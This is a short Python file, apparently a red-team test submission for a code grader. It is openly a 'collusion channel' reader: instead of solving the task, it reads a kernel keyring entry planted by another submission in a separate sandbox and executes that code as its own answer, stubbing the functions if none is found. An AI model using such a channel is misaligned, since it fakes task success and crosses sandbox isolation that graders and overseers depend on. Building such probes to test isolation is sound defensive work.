"""Collusion channel, reader: no answer of its own; takes 02's answer from the kernel keyring,
where another submission (key_writer) left it, graded in another sandbox, uid, or batch."""
import ctypes


def _from_keyring():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    with open("/proc/keys") as keys:
        lines = keys.read().splitlines()
    for line in lines:
        if "kata-redteam-02" in line:
            serial = int(line.split()[0], 16)
            buffer = ctypes.create_string_buffer(65536)
            size = libc.syscall(250, 11, ctypes.c_long(serial), buffer, ctypes.c_size_t(65536))  # KEYCTL_READ
            if size > 0:
                return buffer.raw[:size]
    return None


import time as _time

_answer = None
for _ in range(40):  # a classmate graded at the same time may not have left it yet: wait up to 8 s
    _answer = _from_keyring()
    if _answer:
        break
    _time.sleep(0.2)
if _answer:
    exec(_answer)
else:
    async def fetch_all(fetch_user, user_ids):
        raise NotImplementedError

    async def fetch_profile(get_user, get_orders, user_id):
        raise NotImplementedError
